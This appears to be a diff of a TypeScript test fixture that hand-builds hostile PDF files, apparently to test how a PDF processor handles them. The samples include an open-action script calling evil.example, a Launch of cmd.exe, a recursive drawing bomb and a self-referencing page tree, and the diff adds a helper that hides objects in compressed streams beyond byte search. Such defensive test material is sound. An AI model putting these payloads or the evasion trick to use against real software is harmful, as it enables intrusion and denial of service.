@@ -1,5 +1,7 @@
+import { deflateSync } from 'node:zlib'
+
 /** PDF files written by hand: each object as it stands, with a table of contents that is true. */
-function pdf(...objects: string[]): Buffer {
+export function pdf(...objects: string[]): Buffer {
   let text = '%PDF-1.7\n'
   const places = objects.map((object, number) => {
     const place = text.length
@@ -14,10 +16,16 @@ function pdf(...objects: string[]): Buffer {
   )
 }
 
-const stream = (body: string, dictionary = '') => `<<${dictionary}/Length ${body.length}>>stream\n${body}\nendstream`
+export const pdfStream = (body: string, dictionary = '') => `<<${dictionary}/Length ${body.length}>>stream\n${body}\nendstream`
+/** An object inside a compressed stream, where a search of the bytes does not find it. */
+export function compressedObject(number: number, object: string): string {
+  const head = `${number} 0 `
+  return pdfStream(deflateSync(Buffer.from(head + object, 'latin1')).toString('latin1'), `/Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode`)
+}
+
 const pages = '<</Type/Pages/Kids[3 0 R]/Count 1>>'
 const page = (box: string, more = '') => `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R${more}>>`
-const form = (below: number, body: string) => stream(body, `/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</XObject<</X ${below} 0 R>>>>`)
+const form = (below: number, body: string) => pdfStream(body, `/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</XObject<</X ${below} 0 R>>>>`)
 
 export const hostilePdf = {
   /** Wants to run a script and to start a program when it is opened. */
@@ -25,11 +33,11 @@ export const hostilePdf = {
     '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);fetch("http://evil.example"))>>>>',
     pages,
     page('0 0 300 300', '/Resources<</Font<</F 5 0 R>>>>/AA<</O<</S/Launch/F(cmd.exe)>>>>'),
-    stream('1 0 0 rg 0 0 300 150 re f BT 0 0 1 rg /F 24 Tf 20 200 Td (Hello) Tj ET'),
+    pdfStream('1 0 0 rg 0 0 300 150 re f BT 0 0 1 rg /F 24 Tf 20 200 Td (Hello) Tj ET'),
     '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
   ),
   /** A page of three kilometres. */
-  huge: pdf('<</Type/Catalog/Pages 2 0 R>>', pages, page('0 0 9000000 9000000'), stream('0 0 1 rg 0 0 9000000 5000000 re f')),
+  huge: pdf('<</Type/Catalog/Pages 2 0 R>>', pages, page('0 0 9000000 9000000'), pdfStream('0 0 1 rg 0 0 9000000 5000000 re f')),
   /** Pages that contain themselves. */
   circle: pdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 99999999>>'),
   /** Ten pictures of ten pictures of ten pictures: more than any machine ever draws. */
@@ -37,7 +45,7 @@ export const hostilePdf = {
     '<</Type/Catalog/Pages 2 0 R>>',
     pages,
     page('0 0 300 300', '/Resources<</XObject<</X 5 0 R>>>>'),
-    stream('/X Do'),
+    pdfStream('/X Do'),
     ...Array.from({ length: 30 }, (_, floor) => form(6 + floor, floor < 29 ? '/X Do '.repeat(10) : '0 0 9 9 re f')),
   ),
   junk: Buffer.from('%PDF-1.4\nnothing'),
